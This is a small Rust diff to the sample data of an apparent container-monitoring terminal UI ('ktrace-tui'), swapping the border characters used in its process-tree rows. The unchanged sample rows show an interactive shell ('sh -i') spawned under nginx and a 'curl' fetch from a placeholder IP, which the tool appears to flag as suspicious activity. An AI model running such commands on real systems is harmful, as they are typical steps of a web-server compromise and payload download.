@@ -25,7 +25,7 @@ const SAMPLE: &[&[(&str, &str)]] = &[
     &[(" ktrace-tui", "title"), ("  node-7  ", "text"), (" 1 critical ", "critical"), ("  paused ", "paused")],
     &[("▾ ", "dim"), ("web-1", "container"), ("  nginx:1.27", "text"), ("  pod shop/web-7d9f", "dim")],
     &[
-        ("┃", "border_container"),
+        ("│", "border_container"),
         ("  2140 101   1h  ", "dim"),
         ("├ ", "faint"),
         ("nginx: worker process", "command"),
@@ -33,7 +33,7 @@ const SAMPLE: &[&[(&str, &str)]] = &[
         ("  found", "found"),
     ],
     &[
-        ("┃", "border_container"),
+        ("│", "border_container"),
         ("  3001 root  2s  ", "dim"),
         ("├ ", "faint"),
         ("sh -i", "outside"),
@@ -43,7 +43,7 @@ const SAMPLE: &[&[(&str, &str)]] = &[
         ("  LOW", "low"),
     ],
     &[
-        ("┃", "border_container"),
+        ("│", "border_container"),
         ("  3002 root new  ", "dim"),
         ("└ ", "faint"),
         ("curl -s http://198.51.100.7/x", "born"),
@@ -59,7 +59,7 @@ const SAMPLE: &[&[(&str, &str)]] = &[
         ("help", "dim"),
     ],
     &[
-        ("┃", "border_host"),
+        ("║", "border_host"),
         ("  1950 1000  9m  ", "dim"),
         ("└ ", "faint"),
         ("vim", "dead"),
